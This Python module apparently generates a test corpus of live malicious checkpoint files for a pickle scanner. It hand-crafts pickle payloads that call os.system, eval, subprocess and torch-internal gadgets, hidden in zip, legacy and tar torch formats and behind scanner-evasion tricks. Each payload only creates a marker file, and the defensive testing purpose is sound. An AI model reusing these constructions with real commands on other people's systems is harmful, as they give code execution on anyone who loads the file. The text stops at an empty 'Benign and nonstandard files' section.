"""A corpus of LIVE malicious checkpoints and benign ones, for ``ckpt scan`` and its rivals.

``build_corpus(folder, markers)`` writes every file into ``folder`` and returns one
:class:`CorpusEntry` per file. A malicious file's only effect, when loaded the way its entry
says (``entry.load``), is to create its own marker file ``markers / f"{entry.name}.marker"``
(the marker folder is the caller's temp folder). Nothing here loads a malicious file: the
proof that each one is live is ``tests/ops/scan/test_scan_corpus.py``, which loads them all in one
child process.

**Never load a malicious entry outside a child process whose markers folder is a temp
folder.**

The malicious shapes are the ways attackers hide a pickle payload (see the ``SHAPES``
table): the classic callables (``os.system``, ``eval``, ``subprocess``), chains and
accessors that avoid naming them (``getattr``/``__import__``, ``operator``, dotted names,
a module reached through another module's attribute), standard-library code runners,
torch's own gadgets (a nested ``torch.load``, ``torch.fx``'s graph-module reducer,
``torch.jit``'s ``exec`` wrapper, ``torch.utils.collect_env.run``), the payload in each
pickle of each torch format (zip with several pickle dialects, a deflated record, a
case-twin record; the legacy format's first pickles; the tar format's members), and the
same payload under names scanners skip. Most payloads run first and are then discarded
(``POP``): the file still loads, as a normal checkpoint.

Benign entries are ordinary checkpoints; ``nonstandard`` ones are benign but hold objects
beyond tensors and containers (numpy values, a Namespace, an OmegaConf config, a path, a
defaultdict, a whole pickled module), which a strict loader refuses and a scanner may flag.
"""

from __future__ import annotations

import argparse
import collections
import io
import itertools
import os
import pathlib
import pickle
import pickletools
import shlex
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import torch
from torch import nn

MALICIOUS = "malicious"
BENIGN = "benign"
NONSTANDARD = "nonstandard"

TORCH_LOAD = "torch.load"  # torch.load(path, weights_only=False)
PICKLE_LOAD = "pickle.load"  # pickle.load(open(path, "rb"))
NUMPY_LOAD = "numpy.load"  # numpy.load(path, allow_pickle=True)
SAFETENSORS_LOAD = "safetensors"  # safetensors.torch.load_file(path)

__all__ = [
    "BENIGN",
    "BREAKS_AFTER_PAYLOAD",
    "MALICIOUS",
    "NONSTANDARD",
    "NUMPY_LOAD",
    "PICKLE_LOAD",
    "SAFETENSORS_LOAD",
    "SHAPES",
    "TORCH_LOAD",
    "CorpusEntry",
    "build_corpus",
    "load_source",
]


@dataclass(frozen=True)
class CorpusEntry:
    """One file of the corpus.

    ``marker`` is the file a malicious entry creates when loaded (None for the others);
    ``live`` is False where the file cannot load here (a class of a package not installed);
    ``breaks`` is True for a malicious file whose loader fails once the payload has run.
    """

    name: str
    path: Path
    kind: str  # MALICIOUS, BENIGN or NONSTANDARD
    shape: str  # what the file is, in a few words
    load: str  # TORCH_LOAD, PICKLE_LOAD, NUMPY_LOAD or SAFETENSORS_LOAD
    marker: Path | None = None
    live: bool = True
    breaks: bool = False

    def to_json(self) -> dict[str, Any]:
        return {
            "name": self.name,
            "path": str(self.path),
            "kind": self.kind,
            "shape": self.shape,
            "load": self.load,
            "marker": None if self.marker is None else str(self.marker),
            "live": self.live,
            "breaks": self.breaks,
        }


# --------------------------------------------------------------------------------------------
# Pickle opcodes, written by hand (pickle's own pickler cannot write most of these shapes)
# --------------------------------------------------------------------------------------------

MARK, TUPLE, REDUCE, POP, STOP = b"(", b"t", b"R", b"0", b"."
EMPTY_DICT, EMPTY_TUPLE, BUILD = b"}", b")", b"b"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def text(s: str) -> bytes:
    """BINUNICODE."""
    raw = s.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def binbytes(b: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(b)) + b


def glob(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0 text form, valid in every protocol)."""
    return b"c" + f"{module}\n{name}\n".encode()


def stack_glob(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4): the two strings, then the opcode."""
    return text(module) + text(name) + b"\x93"


def binget(slot: int) -> bytes:
    """BINGET, or LONG_BINGET past slot 255 (as pickle's own pickler writes them)."""
    return b"h" + bytes([slot]) if slot < 256 else b"j" + struct.pack("<I", slot)


def tup(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE


def lst(*items: bytes) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e"


def call(fn: bytes, *args: bytes) -> bytes:
    """``fn(*args)`` (REDUCE); pushes the result."""
    return fn + tup(*args) + REDUCE


def small_dict() -> bytes:
    """The body (no PROTO, no STOP) of an innocent-looking dict, as a decoy result."""
    return pickle.dumps({"epoch": 3, "lr": 0.001, "arch": "resnet18"}, protocol=2)[2:-1]


def document(payload: bytes, protocol: int = 2) -> bytes:
    """A pickle that runs ``payload``, discards it, and evaluates to an innocent dict."""
    return proto(protocol) + payload + POP + small_dict() + STOP


def inject(pkl: bytes, payload: bytes) -> bytes:
    """``payload`` run (and POPped) right after a pickle's PROTO (it uses no memo slots)."""
    if pkl[:1] != b"\x80":
        raise ValueError("expected a pickle starting with PROTO")
    return pkl[:2] + payload + POP + pkl[2:]


def load_source(marker: Path) -> str:
    """Python that creates ``marker`` (and does nothing else)."""
    return f"open({str(marker)!r}, 'w').close()"


def shell_command(marker: Path) -> str:
    return f"touch {shlex.quote(str(marker))}"


def touch_argv(marker: Path) -> bytes:
    return lst(text("touch"), text(str(marker)))


# --------------------------------------------------------------------------------------------
# Torch files
# --------------------------------------------------------------------------------------------


class Reducer:
    """An object that torch.save/pickle records as ``fn(*args)``: how attackers write payloads."""

    def __init__(self, fn: Callable[..., Any], *args: Any) -> None:
        self.fn, self.args = fn, args

    def __reduce__(self) -> tuple[Any, ...]:
        return self.fn, self.args


def state_dict(dtype: torch.dtype = torch.float32, seed: int = 0) -> dict[str, torch.Tensor]:
    torch.manual_seed(seed)
    model = nn.Sequential(nn.Linear(8, 16), nn.ReLU(), nn.Linear(16, 4))
    sd = model.state_dict()
    if dtype.is_floating_point:
        return {k: v.to(dtype) for k, v in sd.items()}
    return {k: (v * 100).to(dtype) for k, v in sd.items()}


def torch_bytes(obj: Any, **kwargs: Any) -> bytes:
    buf = io.BytesIO()
    torch.save(obj, buf, **kwargs)
    return buf.getvalue()


def zip_records(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {info.filename: z.read(info) for info in z.infolist()}


def data_pkl_name(records: dict[str, bytes]) -> str:
    return next(n for n in records if n.endswith("/data.pkl"))


def write_zip(
    target: Path | io.BytesIO,
    records: dict[str, bytes],
    deflated: tuple[str, ...] = (),
) -> None:
    """Records in order with Python's zipfile (stored; ``deflated`` ones compressed)."""
    with zipfile.ZipFile(target, "w", zipfile.ZIP_STORED) as z:
        for name, data in records.items():
            info = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED if name in deflated else zipfile.ZIP_STORED
            z.writestr(info, data)


def torch_zip_with(
    path: Path,
    edit: Callable[[bytes], bytes],
    obj: Any = None,
    deflate: bool = False,
    **save_kwargs: Any,
) -> None:
    """``torch.save(obj)``, its ``data.pkl`` replaced by ``edit(data.pkl)``."""
    records = zip_records(torch_bytes(state_dict() if obj is None else obj, **save_kwargs))
    name = data_pkl_name(records)
    records[name] = edit(records[name])
    write_zip(path, records, deflated=(name,) if deflate else ())


def pickle_spans(data: bytes, count: int) -> list[tuple[int, int]]:
    """The byte spans of the first ``count`` pickles written back to back (never runs them)."""
    spans, f = [], io.BytesIO(data)
    for _ in range(count):
        start = f.tell()
        for _op in pickletools.genops(f):
            pass
        spans.append((start, f.tell()))
    return spans


def legacy_with(path: Path, which: int, payload: bytes) -> None:
    """The legacy format (magic, protocol, sys_info, main, keys, storages) with ``payload``
    injected into pickle number ``which`` (0: magic number, 2: sys_info, 3: the main one)."""
    data = torch_bytes(state_dict(), _use_new_zipfile_serialization=False)
    start, end = pickle_spans(data, 5)[which]
    path.write_bytes(data[:start] + inject(data[start:end], payload) + data[end:])


def tar_with(
    path: Path, member: str, payload: bytes, *, at: int = 0, sys_info: bytes | None = None
) -> None:
    """torch's tar format (torch < 0.4) of a two-tensor state dict, ``payload`` in ``member``.

    Members as ``legacy_load`` in torch/serialization.py reads them: ``storages`` (a count
    pickle, then per storage a pickle ``(key, location, storage class)``, an int64 element
    count and the bytes, then a pickle of views), ``tensors`` (a count, then per tensor a
    pickle ``(key, storage key, tensor class)``, ndim, sizes, strides, offset), ``pickle``
    (the main object, tensors as persistent ids). ``at`` picks the member's pickle that
    carries the payload (0: the first); ``sys_info`` replaces that member's bytes (torch
    never reads them).
    """
    weight = torch.arange(6, dtype=torch.float32)
    bias = torch.ones(2, dtype=torch.float32)

    def dump(obj: Any) -> bytes:
        return pickle.dumps(obj, protocol=2)

    # Each member as its pieces: (bytes, whether they are a pickle).
    storages = [(dump(2), True)]
    tensors = [(dump(2), True)]
    for key, t in ((1, weight), (2, bias)):
        storages.append((dump((key, "cpu", torch.FloatStorage)), True))
        storages.append((struct.pack("<q", t.numel()) + t.numpy().tobytes(), False))
        tensors.append((dump((10 + key, key, torch.FloatTensor)), True))
        tensors.append((struct.pack("<i4x", 1) + struct.pack("<qqq", t.numel(), 1, 0), False))
    storages.append((dump([]), True))
    if member in ("storages", "tensors"):
        pieces = storages if member == "storages" else tensors
        index = [i for i, (_, is_pickle) in enumerate(pieces) if is_pickle][at]
        pieces[index] = (inject(pieces[index][0], payload), True)

    class KeyPickler(pickle.Pickler):
        def persistent_id(self, obj: Any) -> str | None:
            return str(obj) if isinstance(obj, TarKey) else None

    main = io.BytesIO()
    KeyPickler(main, protocol=2).dump({"state_dict": {"weight": TarKey(11), "bias": TarKey(12)}})
    members = {
        "sys_info": dump({"protocol_version": 1001, "little_endian": True}),
        "pickle": main.getvalue(),
        "tensors": b"".join(piece for piece, _ in tensors),
        "storages": b"".join(piece for piece, _ in storages),
    }
    if member not in ("storages", "tensors"):
        members[member] = inject(members[member], payload)
    if sys_info is not None:
        members["sys_info"] = sys_info
    with tarfile.open(path, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime, info.mode = len(data), 0, 0o644
            tar.addfile(info, io.BytesIO(data))


class TarKey(int):
    """A tensor's key in a tar-format main pickle (written as its persistent id)."""


# --------------------------------------------------------------------------------------------
# Malicious shapes
# --------------------------------------------------------------------------------------------


def _os_system(m: Path) -> bytes:
    return call(glob("os", "system"), text(shell_command(m)))


def _module_os() -> bytes:
    # The os module, reached as another module's attribute (pathlib does `import os`).
    return glob("pathlib", "os")


def pickle_shape(build: Callable[[Path], bytes], protocol: int = 2) -> Callable[..., None]:
    def write(path: Path, m: Path) -> None:
        path.write_bytes(document(build(m), protocol))

    return write


def zip_shape(build: Callable[[Path], bytes], **kwargs: Any) -> Callable[..., None]:
    def write(path: Path, m: Path) -> None:
        torch_zip_with(path, lambda pkl: inject(pkl, build(m)), **kwargs)

    return write


def write_zip_reduce(path: Path, m: Path) -> None:
    # What an attacker's torch.save of an object with __reduce__ gives: GLOBAL posix system.
    path.write_bytes(torch_bytes({**state_dict(), "_meta": Reducer(os.system, shell_command(m))}))


def write_zip_p4_memo(path: Path, m: Path) -> None:
    # torch.save at protocol 4 of a state dict with an innocent metadata dict naming the
    # strings "posix" and "system"; then, ahead of the STOP, STACK_GLOBAL of two BINGETs of
    # those memoized strings, called and POPped. No module or name string sits beside the
    # STACK_GLOBAL: a scanner must follow the memo.
    obj = {"meta": {"platform": "posix", "call": "system"}, **state_dict()}

    def edit(pkl: bytes) -> bytes:
        # The memo slot of each string: protocol 4 fills slots in order with MEMOIZE.
        ops = list(pickletools.genops(pkl))
        slot, strings = 0, {}
        for (op, arg, _), (nxt, _, _) in itertools.pairwise(ops):
            if op.name == "SHORT_BINUNICODE" and nxt.name == "MEMOIZE":
                strings.setdefault(arg, slot)
            slot += op.name == "MEMOIZE"
        payload = (
            binget(strings["posix"])
            + binget(strings["system"])
            + b"\x93"  # STACK_GLOBAL
            + tup(text(shell_command(m)))
            + REDUCE
            + POP
        )
        frame_at = max(pos for op, _, pos in ops if op.name == "FRAME")
        (length,) = struct.unpack_from("<Q", pkl, frame_at + 1)
        out = bytearray(pkl[:-1] + payload + STOP)
        struct.pack_into("<Q", out, frame_at + 1, length + len(payload))
        return bytes(out)

    torch_zip_with(path, edit, obj=obj, pickle_protocol=4)


def write_zip_p0(path: Path, m: Path) -> None:
    # data.pkl as a protocol-0 text pickle (no PROTO): GLOBAL posix system, then REDUCE.
    obj = {"epoch": 3, "weights": [0.5, 0.25], "_meta": Reducer(os.system, shell_command(m))}
    torch_zip_with(path, lambda _pkl: pickle.dumps(obj, protocol=0))


def write_zip_inst(path: Path, m: Path) -> None:
    torch_zip_with(path, lambda pkl: inject(pkl, MARK + text(shell_command(m)) + b"ios\nsystem\n"))


def write_zip_obj(path: Path, m: Path) -> None:
    torch_zip_with(
        path, lambda pkl: inject(pkl, MARK + glob("os", "system") + text(shell_command(m)) + b"o")
    )


def write_zip_deflated(path: Path, m: Path) -> None:
    torch_zip_with(path, lambda pkl: inject(pkl, _os_system(m)), deflate=True)


def case_twin_layout(payload_pkl: bytes) -> dict[str, bytes]:
    """Records of a torch zip with ``archive/data.pkl`` and, at the end, ``archive/DATA.PKL``.

    torch's reader (miniz) looks names up without regard to case, by a binary search over
    the names sorted case-insensitively (an unstable sort): which twin it reads depends on
    the number of records. Layouts (state dicts of 1, 2, ... tensors) are probed with a
    harmless twin (read with ``weights_only=True``) until torch reads the twin.
    """
    for n in range(1, 16):
        base = {f"layer{i}.weight": torch.full((2,), float(i)) for i in range(n)}
        records = zip_records(torch_bytes(base))
        name = data_pkl_name(records)
        twin = name[: -len("data.pkl")] + "DATA.PKL"
        probe = io.BytesIO()
        write_zip(probe, {**records, twin: pickle.dumps({"twin": True}, protocol=2)})
        probe.seek(0)
        if torch.load(probe, weights_only=True) == {"twin": True}:
            return {**records, twin: inject(records[name], payload_pkl)}
    raise RuntimeError("no layout found in which torch reads the case twin")


def write_zip_case_twin(path: Path, m: Path) -> None:
    # A benign archive/data.pkl, then archive/DATA.PKL with the payload, in a layout where
    # torch reads the twin; zipfile's getinfo("archive/data.pkl") gives the benign one.
    write_zip(path, case_twin_layout(_os_system(m)))


def write_zip_upper_p1(path: Path, m: Path) -> None:
    # The one data.pkl spelled DATA.PKL (torch's lookup ignores case), starting PROTO 1,
    # which Python's unpickler takes though no pickler writes it.
    records = zip_records(torch_bytes(state_dict()))
    name = data_pkl_name(records)
    pkl = inject(records.pop(name), _os_system(m))
    records[name[: -len("data.pkl")] + "DATA.PKL"] = proto(1) + pkl[2:]
    write_zip(path, records)


def p0_broken(m: Path) -> bytes:
    """A protocol-0 pickle (no PROTO) that runs os.system, then a byte that is no opcode:
    the loader runs the payload, then fails."""
    return b"cos\nsystem\n(" + text(shell_command(m)) + TUPLE + REDUCE + b"\xff"


def nested_torch_file(m: Path) -> bytes:
    return torch_bytes({**state_dict(), "_meta": Reducer(os.system, shell_command(m))})


def write_load_from_bytes(path: Path, m: Path) -> None:
    # torch.storage._load_from_bytes is how pickled storages are rebuilt: it calls
    # torch.load(weights_only=False) on the bytes.
    payload = call(glob("torch.storage", "_load_from_bytes"), binbytes(nested_torch_file(m)))
    torch_zip_with(path, lambda pkl: inject(pkl, payload))


def write_serialization_load(path: Path, m: Path) -> None:
    # torch.load(BytesIO(nested), None, pickle): an explicit pickle_module turns weights_only
    # off; the pickle module itself is torch.serialization's attribute.
    buffer = call(glob("io", "BytesIO"), binbytes(nested_torch_file(m)))
    payload = call(
        glob("torch.serialization", "load"),
        buffer,
        b"N",
        glob("torch.serialization", "pickle"),
    )
    torch_zip_with(path, lambda pkl: inject(pkl, payload))


def write_fx_graph_module(path: Path, m: Path) -> None:
    # A real pickled GraphModule whose import block (exec'd to rebuild forward) has one more line.
    import torch.fx

    gm = torch.fx.symbolic_trace(nn.Sequential(nn.Linear(4, 4), nn.ReLU()))
    fn, (body, import_block) = gm.__reduce__()
    evil = Reducer(fn, body, f"{load_source(m)}\n{import_block}")
    path.write_bytes(torch_bytes({"model": evil, "epoch": 3}))


def write_jit_exec_wrapper(path: Path, m: Path) -> None:
    payload = call(
        glob("torch.jit.unsupported_tensor_ops", "execWrapper"),
        text(load_source(m)),
        EMPTY_DICT,
        EMPTY_DICT,
    )
    torch_zip_with(path, lambda pkl: inject(pkl, payload))


def write_collect_env_run(path: Path, m: Path) -> None:
    payload = call(glob("torch.utils.collect_env", "run"), text(shell_command(m)))
    torch_zip_with(path, lambda pkl: inject(pkl, payload))


def write_legacy_main(path: Path, m: Path) -> None:
    legacy_with(path, 3, _os_system(m))


def write_legacy_magic(path: Path, m: Path) -> None:
    legacy_with(path, 0, _os_system(m))


def write_legacy_sys_info(path: Path, m: Path) -> None:
    legacy_with(path, 2, _os_system(m))


def write_tar_pickle(path: Path, m: Path) -> None:
    tar_with(path, "pickle", _os_system(m))


def write_tar_pickle_symlink(path: Path, m: Path) -> None:
    # The member 'pickle' a symbolic link to a member 'payload': torch reads it with
    # tarfile's extractfile, which follows the link.
    tar_with(path, "pickle", _os_system(m))
    with tarfile.open(path) as tar:
        members = [(info, tar.extractfile(info).read()) for info in tar.getmembers()]
    with tarfile.open(path, mode="w:", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if info.name == "pickle":
                info.name = "payload"
                tar.addfile(info, io.BytesIO(data))
                link = tarfile.TarInfo("pickle")
                link.type, link.linkname, link.mtime = tarfile.SYMTYPE, "payload", 0
                tar.addfile(link)
            else:
                tar.addfile(info, io.BytesIO(data))


def write_tar_storages(path: Path, m: Path) -> None:
    tar_with(path, "storages", _os_system(m))


# A sys_info torch never reads, which a reader that does read it refuses.
_BROKEN_SYS_INFO = b"\x80\x02}q\x00"


def write_tar_storage_item(path: Path, m: Path) -> None:
    tar_with(path, "storages", _os_system(m), at=2, sys_info=_BROKEN_SYS_INFO)


def write_tar_storage_views(path: Path, m: Path) -> None:
    tar_with(path, "storages", _os_system(m), at=3, sys_info=_BROKEN_SYS_INFO)


def write_tar_tensor_item(path: Path, m: Path) -> None:
    tar_with(path, "tensors", _os_system(m), at=2, sys_info=_BROKEN_SYS_INFO)


def write_npy_object(path: Path, m: Path) -> None:
    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = "weights", Reducer(os.system, shell_command(m))
    with open(path, "wb") as f:
        np.save(f, arr, allow_pickle=True)


# A memo index the C unpickler reads as a C string, to its NUL ("0\x00" is slot 0), where
# pickletools' genops refuses the line: a walk that stops there misses what follows.
NUL_PUT = b"p0\x00\n"


def write_legacy_nul_memo(path: Path, m: Path) -> None:
    # The magic number's pickle memoises it through such a line; the payload is in the main
    # pickle, which a reader that took the file for a plain pickle never reaches.
    legacy_with(path, 3, _os_system(m))
    data = path.read_bytes()
    _, end = pickle_spans(data, 1)[0]
    path.write_bytes(data[: end - 1] + NUL_PUT + data[end - 1 :])


def write_npy_nul_memo(path: Path, m: Path) -> None:
    buffer = io.BytesIO()
    np.save(buffer, np.array([None], dtype=object), allow_pickle=True)
    head = buffer.getvalue()
    start = head.index(b"\n", 10) + 1  # (the header ends its line; the pickle follows)
    path.write_bytes(head[:start] + b"(l" + NUL_PUT + _os_system(m) + POP + STOP)


def _getattr_import(m: Path) -> bytes:
    os_mod = call(glob("builtins", "__import__"), text("os"))
    system = call(glob("builtins", "getattr"), os_mod, text("system"))
    return system + tup(text(shell_command(m))) + REDUCE


def _importlib_getattr(m: Path) -> bytes:
    os_mod = call(glob("importlib", "import_module"), text("os"))
    system = call(glob("builtins", "getattr"), os_mod, text("system"))
    return system + tup(text(shell_command(m))) + REDUCE


def _attrgetter(m: Path) -> bytes:
    getter = call(glob("operator", "attrgetter"), text("system"))
    system = getter + tup(_module_os()) + REDUCE
    return system + tup(text(shell_command(m))) + REDUCE


def _methodcaller(m: Path) -> bytes:
    caller = call(glob("operator", "methodcaller"), text("system"), text(shell_command(m)))
    return caller + tup(_module_os()) + REDUCE


def _dotted_name(m: Path) -> bytes:
    # Protocol 4 resolves dotted names: module "pathlib", name "os.system".
    return stack_glob("pathlib", "os.system") + tup(text(shell_command(m))) + REDUCE


def _partial(m: Path) -> bytes:
    bound = call(glob("functools", "partial"), glob("os", "system"), text(shell_command(m)))
    return bound + EMPTY_TUPLE + REDUCE


def _code_interpreter(m: Path) -> bytes:
    interp = call(glob("code", "InteractiveInterpreter"))
    return call(
        stack_glob("code", "InteractiveInterpreter.runsource"), interp, text(load_source(m))
    )


# (name, kind, shape, load, file name, writer(path, marker)); the file name's suffix matters
# to scanners that pick files by suffix.
Writer = Callable[[Path, Path], None]
_S = load_source
_MALICIOUS: tuple[tuple[str, str, str, str, Writer], ...] = (
    # -- plain pickles: the callables scanners know, and ways around naming them
    (
        "pkl_os_system",
        "pickle: os.system(cmd)",
        PICKLE_LOAD,
        "os_system.pkl",
        pickle_shape(_os_system),
    ),
    (
        "pkl_posix_system",
        "pickle: posix.system(cmd)",
        PICKLE_LOAD,
        "posix_system.pkl",
        pickle_shape(lambda m: call(glob("posix", "system"), text(shell_command(m)))),
    ),
    (
        "pkl_eval",
        "pickle: builtins.eval(source)",
        PICKLE_LOAD,
        "eval.pkl",
        pickle_shape(lambda m: call(glob("builtins", "eval"), text(_S(m)))),
    ),
    (
        "pkl_exec",
        "pickle: builtins.exec(source)",
        PICKLE_LOAD,
        "exec.pkl",
        pickle_shape(lambda m: call(glob("builtins", "exec"), text(_S(m)))),
    ),
    (
        "pkl_subprocess_popen",
        "pickle: subprocess.Popen([touch, path])",
        PICKLE_LOAD,
        "subprocess_popen.pkl",
        pickle_shape(lambda m: call(glob("subprocess", "Popen"), touch_argv(m))),
    ),
    (
        "pkl_subprocess_call",
        "pickle: subprocess.call([touch, path])",
        PICKLE_LOAD,
        "subprocess_call.pkl",
        pickle_shape(lambda m: call(glob("subprocess", "call"), touch_argv(m))),
    ),
    (
        "pkl_getattr_import",
        "pickle: getattr(__import__('os'), 'system')(cmd)",
        PICKLE_LOAD,
        "getattr_import.pkl",
        pickle_shape(_getattr_import),
    ),
    (
        "pkl_importlib_getattr",
        "pickle: getattr(importlib.import_module('os'), 'system')(cmd)",
        PICKLE_LOAD,
        "importlib_getattr.pkl",
        pickle_shape(_importlib_getattr),
    ),
    (
        "pkl_attrgetter",
        "pickle: operator.attrgetter('system')(pathlib.os)(cmd)",
        PICKLE_LOAD,
        "attrgetter.pkl",
        pickle_shape(_attrgetter),
    ),
    (
        "pkl_methodcaller",
        "pickle: operator.methodcaller('system', cmd)(pathlib.os)",
        PICKLE_LOAD,
        "methodcaller.pkl",
        pickle_shape(_methodcaller),
    ),
    (
        "pkl_dotted_name",
        "pickle protocol 4: STACK_GLOBAL 'pathlib' 'os.system'",
        PICKLE_LOAD,
        "dotted_name.pkl",
        pickle_shape(_dotted_name, protocol=4),
    ),
    (
        "pkl_functools_partial",
        "pickle: functools.partial(os.system, cmd)()",
        PICKLE_LOAD,
        "functools_partial.pkl",
        pickle_shape(_partial),
    ),
    (
        "pkl_runpy_run_code",
        "pickle: runpy._run_code(source, {})",
        PICKLE_LOAD,
        "runpy_run_code.pkl",
        pickle_shape(lambda m: call(glob("runpy", "_run_code"), text(_S(m)), EMPTY_DICT)),
    ),
    (
        "pkl_timeit",
        "pickle: timeit.timeit(source, 'pass', time.perf_counter, 1)",
        PICKLE_LOAD,
        "timeit.pkl",
        pickle_shape(
            lambda m: call(
                glob("timeit", "timeit"),
                text(_S(m)),
                text("pass"),
                glob("time", "perf_counter"),
                b"K\x01",
            )
        ),
    ),
    (
        "pkl_cprofile_run",
        "pickle: cProfile.run(source)",
        PICKLE_LOAD,
        "cprofile_run.pkl",
        pickle_shape(lambda m: call(glob("cProfile", "run"), text(_S(m)))),
    ),
    (
        "pkl_bdb_run",
        "pickle protocol 4: bdb.Bdb.run(bdb.Bdb(), source) (pdb.run waits for a command)",
        PICKLE_LOAD,
        "bdb_run.pkl",
        pickle_shape(
            lambda m: call(stack_glob("bdb", "Bdb.run"), call(glob("bdb", "Bdb")), text(_S(m))),
            protocol=4,
        ),
    ),
    (
        "pkl_code_interpreter",
        "pickle protocol 4: code.InteractiveInterpreter.runsource(interp, source)",
        PICKLE_LOAD,
        "code_interpreter.pkl",
        pickle_shape(_code_interpreter, protocol=4),
    ),
    (
        "pkl_pydoc_pipepager",
        "pickle: pydoc.pipepager('', cmd)",
        PICKLE_LOAD,
        "pydoc_pipepager.pkl",
        pickle_shape(lambda m: call(glob("pydoc", "pipepager"), text(""), text(shell_command(m)))),
    ),
    (
        "pkl_numpy_runstring",
        "pickle: numpy.testing._private.utils.runstring(source, {})",
        PICKLE_LOAD,
        "numpy_runstring.pkl",
        pickle_shape(
            lambda m: call(
                glob("numpy.testing._private.utils", "runstring"), text(_S(m)), EMPTY_DICT
            )
        ),
    ),
    # -- torch's own gadgets (inside torch zips)
    (
        "torch_load_from_bytes",
        "zip: torch.storage._load_from_bytes(nested malicious torch.save)",
        TORCH_LOAD,
        "load_from_bytes.pt",
        write_load_from_bytes,
    ),
    (
        "torch_serialization_load",
        "zip: torch.serialization.load(BytesIO(nested), None, torch.serialization.pickle)",
        TORCH_LOAD,
        "serialization_load.pt",
        write_serialization_load,
    ),
    (
        "torch_fx_graph_module",
        "zip: torch.fx reduce_graph_module with a payload line in its import block",
        TORCH_LOAD,
        "fx_graph_module.pt",
        write_fx_graph_module,
    ),
    (
        "torch_jit_exec_wrapper",
        "zip: torch.jit.unsupported_tensor_ops.execWrapper(source, {}, {})",
        TORCH_LOAD,
        "jit_exec_wrapper.pt",
        write_jit_exec_wrapper,
    ),
    (
        "torch_collect_env_run",
        "zip: torch.utils.collect_env.run(cmd) (a shell)",
        TORCH_LOAD,
        "collect_env_run.pt",
        write_collect_env_run,
    ),
    # -- where in a torch file the payload sits, and how its pickle is written
    (
        "zip_reduce_p2",
        "zip: torch.save of a __reduce__ object (protocol 2, GLOBAL posix system)",
        TORCH_LOAD,
        "zip_reduce_p2.pt",
        write_zip_reduce,
    ),
    (
        "zip_stack_global_p4",
        "zip: protocol 4, STACK_GLOBAL of memoized strings (BINGET)",
        TORCH_LOAD,
        "zip_stack_global_p4.pt",
        write_zip_p4_memo,
    ),
    (
        "zip_p0_text",
        "zip: data.pkl a protocol-0 text pickle",
        TORCH_LOAD,
        "zip_p0_text.pt",
        write_zip_p0,
    ),
    ("zip_inst", "zip: INST os system", TORCH_LOAD, "zip_inst.pt", write_zip_inst),
    ("zip_obj", "zip: OBJ of GLOBAL os system", TORCH_LOAD, "zip_obj.pt", write_zip_obj),
    (
        "zip_deflated",
        "zip: data.pkl deflated, os.system",
        TORCH_LOAD,
        "zip_deflated.pt",
        write_zip_deflated,
    ),
    (
        "zip_case_twin",
        "zip: benign data.pkl, then DATA.PKL with the payload (torch reads the later)",
        TORCH_LOAD,
        "zip_case_twin.pt",
        write_zip_case_twin,
    ),
    (
        "zip_upper_p1",
        "zip: the one data.pkl spelled DATA.PKL, starting PROTO 1",
        TORCH_LOAD,
        "zip_upper_p1.pt",
        write_zip_upper_p1,
    ),
    (
        "legacy_main",
        "legacy (pre-1.6): payload in the main pickle",
        TORCH_LOAD,
        "legacy_main.pt",
        write_legacy_main,
    ),
    (
        "legacy_magic",
        "legacy (pre-1.6): payload in the magic-number pickle",
        TORCH_LOAD,
        "legacy_magic.pt",
        write_legacy_magic,
    ),
    (
        "legacy_sys_info",
        "legacy (pre-1.6): payload in the sys_info pickle",
        TORCH_LOAD,
        "legacy_sys_info.pt",
        write_legacy_sys_info,
    ),
    (
        "tar_pickle",
        "tar (torch < 0.4): payload in the 'pickle' member",
        TORCH_LOAD,
        "tar_pickle.pt",
        write_tar_pickle,
    ),
    (
        "tar_pickle_symlink",
        "tar (torch < 0.4): 'pickle' a symbolic link to the member holding the payload",
        TORCH_LOAD,
        "tar_pickle_symlink.pt",
        write_tar_pickle_symlink,
    ),
    (
        "tar_storages",
        "tar (torch < 0.4): payload in the 'storages' member's count pickle",
        TORCH_LOAD,
        "tar_storages.pt",
        write_tar_storages,
    ),
    (
        "tar_storage_item",
        "tar (torch < 0.4): payload in the second storage's pickle, sys_info broken",
        TORCH_LOAD,
        "tar_storage_item.pt",
        write_tar_storage_item,
    ),
    (
        "tar_storage_views",
        "tar (torch < 0.4): payload in the storage views pickle, sys_info broken",
        TORCH_LOAD,
        "tar_storage_views.pt",
        write_tar_storage_views,
    ),
    (
        "tar_tensor_item",
        "tar (torch < 0.4): payload in the second tensor's pickle, sys_info broken",
        TORCH_LOAD,
        "tar_tensor_item.pt",
        write_tar_tensor_item,
    ),
    # -- the same payloads under names scanners skip
    ("name_no_suffix", "zip reduce, no suffix", TORCH_LOAD, "checkpoint", write_zip_reduce),
    ("name_dat", "zip reduce, named .dat", TORCH_LOAD, "weights.dat", write_zip_reduce),
    (
        "name_txt",
        "pickle os.system, named .txt",
        PICKLE_LOAD,
        "notes.txt",
        pickle_shape(_os_system),
    ),
    (
        "name_none_p0_broken",
        "protocol-0 os.system, then a byte that is no opcode; no suffix",
        PICKLE_LOAD,
        "pytorch_model",
        lambda path, m: path.write_bytes(p0_broken(m)),
    ),
    (
        "npy_object_array",
        "numpy .npy object array holding a __reduce__ object",
        NUMPY_LOAD,
        "object_array.npy",
        write_npy_object,
    ),
    (
        "legacy_nul_memo",
        "legacy: a NUL in the magic pickle's PUT line, os.system in the main pickle",
        TORCH_LOAD,
        "legacy_nul_memo.pt",
        write_legacy_nul_memo,
    ),
    (
        "npy_nul_memo",
        "numpy .npy object array pickle with a NUL in a PUT line, then os.system",
        NUMPY_LOAD,
        "nul_memo.npy",
        write_npy_nul_memo,
    ),
)


# --------------------------------------------------------------------------------------------
# Benign and nonstandard files
# --------------------------------------------------------------------------------------------


